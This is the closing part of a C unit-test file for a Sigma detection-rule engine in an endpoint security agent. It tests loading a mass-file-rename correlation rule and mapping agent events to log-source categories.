  (void)state;
  const char *yaml = "title: base\nid: base-1\nlogsource:\n  category: file_rename\n"
                     "detection:\n  sel:\n    TargetFilename|endswith: .locked\n"
                     "  condition: sel\n---\n"
                     "title: many renames\nid: corr-1\ncorrelation:\n  type: event_count\n"
                     "  rules: [base-1]\n  group-by: [Image]\n  timespan: 10s\n"
                     "  condition:\n    gte: 50\n";
  sigma_ruleset_t *rs = load_yaml(yaml);
  assert_int_equal(sigma_ruleset_rule_count(rs), 1);
  assert_int_equal(sigma_ruleset_correlation_count(rs), 1);
  sigma_ruleset_free(rs);
}

/* The log source categories of the agent's events (docs/behaviour.md). */
static void test_event_categories(void **state) {
  (void)state;
  const char *c[SIGMA_EVENT_MAX_CATEGORIES];
  assert_int_equal(sigma_event_categories("yamori.process", "exec", c, 2), 1);
  assert_string_equal(c[0], "process_creation");
  assert_int_equal(sigma_event_categories("yamori.process", "end", c, 2), 1);
  assert_string_equal(c[0], "process_termination");
  assert_int_equal(sigma_event_categories("yamori.file", "creation", c, 2), 1);
  assert_string_equal(c[0], "file_event");
  assert_int_equal(sigma_event_categories("yamori.file", "modification", c, 2), 2);
  assert_string_equal(c[0], "file_event");
  assert_string_equal(c[1], "file_change");
  assert_int_equal(sigma_event_categories("yamori.file", "rename", c, 2), 2);
  assert_string_equal(c[0], "file_event");
  assert_string_equal(c[1], "file_rename");
  assert_int_equal(sigma_event_categories("yamori.file", "deletion", c, 2), 1);
  assert_string_equal(c[0], "file_delete");
  /* Room for one: the first only. */
  assert_int_equal(sigma_event_categories("yamori.file", "rename", c, 1), 1);
  assert_string_equal(c[0], "file_event");
  /* Alerts, responses, gaps and unknown actions are not evaluated. */
  assert_int_equal(sigma_event_categories("yamori.malware", "malware-detected", c, 2), 0);
  assert_int_equal(sigma_event_categories("yamori.agent", "gap", c, 2), 0);
  assert_int_equal(sigma_event_categories("yamori.file", "exec", c, 2), 0);
  assert_int_equal(sigma_event_categories(NULL, "exec", c, 2), 0);
  assert_int_equal(sigma_event_categories("yamori.process", NULL, c, 2), 0);
}

int main(void) {
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(test_exact_case_insensitive),
      cmocka_unit_test(test_contains_startswith_endswith),
      cmocka_unit_test(test_all_modifier),
      cmocka_unit_test(test_wildcards_and_escapes),
      cmocka_unit_test(test_cased),
      cmocka_unit_test(test_regex),
      cmocka_unit_test(test_regex_catastrophic_is_bounded),
      cmocka_unit_test(test_base64),
      cmocka_unit_test(test_windash),
      cmocka_unit_test(test_cidr),
      cmocka_unit_test(test_exists_and_null),
      cmocka_unit_test(test_numbers),
      cmocka_unit_test(test_fieldref),
      cmocka_unit_test(test_keywords),
      cmocka_unit_test(test_hashes),
      cmocka_unit_test(test_lists_of_maps_and_arrays),
      cmocka_unit_test(test_conditions),
      cmocka_unit_test(test_match_report),
      cmocka_unit_test(test_prefilter_many_rules),
      cmocka_unit_test(test_agent_event_source),
      cmocka_unit_test(test_correlation_event_count),
      cmocka_unit_test(test_correlation_value_count),
      cmocka_unit_test(test_correlation_temporal),
      cmocka_unit_test(test_loader_refusals),
      cmocka_unit_test(test_loader_accepts_correlations),
      cmocka_unit_test(test_event_categories),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
